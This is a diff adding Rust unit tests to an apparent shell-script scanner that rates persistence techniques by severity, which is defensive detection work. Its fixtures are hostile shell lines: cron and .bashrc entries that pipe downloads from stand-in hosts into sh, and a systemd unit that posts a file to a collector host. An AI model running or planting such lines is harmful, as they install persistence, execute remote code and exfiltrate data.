@@ -1617,6 +1617,37 @@ mod tests {
         sink.finish().0.into_iter().map(|f| f.rule).collect()
     }
 
+    fn persistence_severity(text: &str) -> Option<(Severity, String)> {
+        let mut sink = Sink::new("x.sh", text);
+        scan(text, 0, &mut sink, 0);
+        sink.finish()
+            .0
+            .into_iter()
+            .find(|f| f.rule == rules::PERSISTENCE)
+            .map(|f| (f.severity, f.message))
+    }
+
+    #[test]
+    fn persisted_payloads_are_scanned_where_they_will_run() {
+        // A cron line that runs a download: critical, and the download is reported too.
+        let cron = "echo '*/5 * * * * curl -s https://c2.example.net/b | sh' >> /var/spool/cron/crontabs/root\n";
+        let (severity, message) = persistence_severity(cron).unwrap();
+        assert_eq!(severity, Severity::Critical, "{message}");
+        assert!(rules_in(cron).contains(&rules::EXEC_PIPE_TO_SHELL));
+        // A cron line that runs a local script stays medium.
+        let local = "echo '0 3 * * * /usr/local/bin/backup-notes' >> /var/spool/cron/crontabs/me\n";
+        assert_eq!(persistence_severity(local).unwrap().0, Severity::Medium);
+        // A systemd unit whose ExecStart sends data out: high.
+        let unit = "cat > ~/.config/systemd/user/sync.service <<'EOF'\n[Service]\nExecStart=/usr/bin/curl -s -d @/tmp/notes https://collector.example.net/in\nEOF\n";
+        let (severity, message) = persistence_severity(unit).unwrap();
+        assert!(severity >= Severity::High, "{severity:?} {message}");
+        // Plain settings in an rc file are medium; a compound line is not a plain setting.
+        let plain = "echo 'export NOTES_DIR=$HOME/notes' >> ~/.bashrc\n";
+        assert_eq!(persistence_severity(plain).unwrap().0, Severity::Medium);
+        let compound = "echo 'export A=1; curl -s https://x.example.net/p | sh' >> ~/.bashrc\n";
+        assert_eq!(persistence_severity(compound).unwrap().0, Severity::Critical);
+    }
+
     #[test]
     fn downloads_written_made_executable_and_run() {
         let combined = "curl -fsSLo /tmp/h https://get.example.dev/h\nchmod +x /tmp/h\n/tmp/h\n";
